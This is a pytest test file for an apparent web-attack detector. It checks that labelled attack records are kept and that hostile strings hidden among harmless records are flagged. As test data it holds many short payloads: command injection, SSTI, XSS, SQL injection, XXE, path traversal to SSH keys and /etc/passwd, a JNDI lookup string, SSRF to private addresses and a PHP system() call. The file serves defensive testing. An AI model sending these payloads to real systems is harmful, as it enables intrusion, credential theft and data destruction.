def test_what_may_be_an_attack_is_kept(value: str, label: str) -> None:
    assert disbelief(*case(value, **VALUE, **{"class": label})) is None


@pytest.mark.parametrize(
    ("url", "label", "texts", "more"),
    [
        ("/?q=|search%20x|head%201&z=;id", "cmdi", ["|search x|head 1", ";id"], {}),
        ("/?v={if%20phpinfo()}{/if}", "ssti", ["{if phpinfo()}{/if}"], {}),
        ("/?v={$shop.version}", "ssti", ["{$shop.version}"], {}),
        ("/?f=/home/ann/id_rsa", "traversal", ["/home/ann/id_rsa"], {}),
        ("/<!--", "cmdi", [], {"headers": {"X-Forwarded-For": "$(id)"}}),
        ("/run", "cmdi", ["rm -rf x"], {"body": '{"exec": "rm -rf x"}'}),
        ("/?q=<svg%20onload=a()>", "xss", ["<svg onload=a()>"], {"body": "<!-- CSRF PoC --><form action=/x>"}),
        ("/?x={{BaseURL}}&u=http://169.254.1.2", "ssrf", ["http://169.254.1.2"], {}),
    ],
)
def test_requests_that_may_attack_are_kept(url: str, label: str, texts: list[str], more: dict[str, Any]) -> None:
    record, windows = request(url, label, **more)
    assert disbelief(record, [*windows, *(("query text", text) for text in texts)]) is None


@pytest.mark.parametrize(
    ("attack", "kept"),
    [
        ("<script>alert(1)</script>", "The <script> tag calls alert(1)"),
        ('<b onload="alert(1)">', 'onload="alert(1)" is a handler'),
        ('<a href="javascript:alert(1)">', '<a href="javascript:void(0)">'),
        ('<embed src="data:text/html;base64,aaaa">', '<img src="data:image/png;base64,aaaa">'),
        ("ann' or '1'='1", "name eq 'a' or name eq 'b'"),
        ("-1' union select null,null", "the union select committee"),
        ("../../etc/passwd", "../../assets/site.css"),
        ('<!doctype a [<!entity b system "file:///c">]>', "<!doctype html>"),
        ("${jndi:ldap://a.example/b}", "${jndi}"),
        ("{{7*7}}", "{{ items }} and 7*7 of them"),
        ("{{''.__class__.x}}", "{{ item.title }}"),
        ("1;cat /etc/hosts", "run `cat /etc/hosts` to see it"),
        ("echo $((3 * 4567))", "`echo $((3 * 4567))` prints a product"),
        ('cd "$dir" && ls -la', "run cd src && ls to list it"),
        ("<?php system('id');", "<?php echo $title;"),
    ],
)
def test_attacks_in_harmless_collections(attack: str, kept: str) -> None:
    assert doubt_harmless(*case(attack, **VALUE)) == "attack among harmless records"
    assert doubt_harmless(*case(kept, **VALUE)) is None


def test_a_value_that_asks_for_the_page_of_a_device_attacks() -> None:
    for value in ("http://192.168.0.254/cgi-bin/status", "https://10.2.0.1:8443/setup/wan"):
        assert doubt_harmless(*case(value, **VALUE)) == "attack among harmless records"
        assert doubt_harmless(*case(value, site="shop.example")) is None
    for value in (
        "http://localhost:3000/callback",
        "open http://192.168.0.254/setup first",
        "https://shop.example/admin",
    ):
        assert doubt_harmless(*case(value, **VALUE)) is None


def test_a_value_in_a_header_is_judged_as_elsewhere() -> None:
    for value, why in (("{__schema{types{name}}}", None), ("{rooms{id}}", "plain GraphQL")):
        record, _ = case(value, **VALUE, **{"class": "graphql"})
        assert disbelief(record, [("header referer", value)]) == why


@pytest.mark.parametrize(
    "record",
    [
        case('<p style="' + "color:red   " * 2_000 + '!">x</p>', **VALUE, **{"class": "xss"}),
        case("select lamp" + " " * 20_000 + "!", **TEXTBOOK),
        case(" " * 20_000 + "!", **TEXTBOOK),
        case("create table a (b int)" + " " * 20_000 + "!", **TEXTBOOK),
    ],
)
def test_long_values_are_doubted_fast(record: tuple[Any, Any]) -> None:
    began = time.process_time()
    disbelief(*record)
    assert time.process_time() - began < 1  # seconds to hours where a rule tries the same stretch again and again


def test_a_recorded_site_may_embed_foreign_scripts() -> None:
    page = '<p>hello</p><script src="https://cdn.example.com/a.js"></script>'
    assert doubt_harmless(*case(page, **VALUE)) == "attack among harmless records"
    assert doubt_harmless(*case(page, site="shop.example")) is None
    assert doubt_harmless(*case("<script>alert(1)</script>", site="shop.example")) == "attack among harmless records"
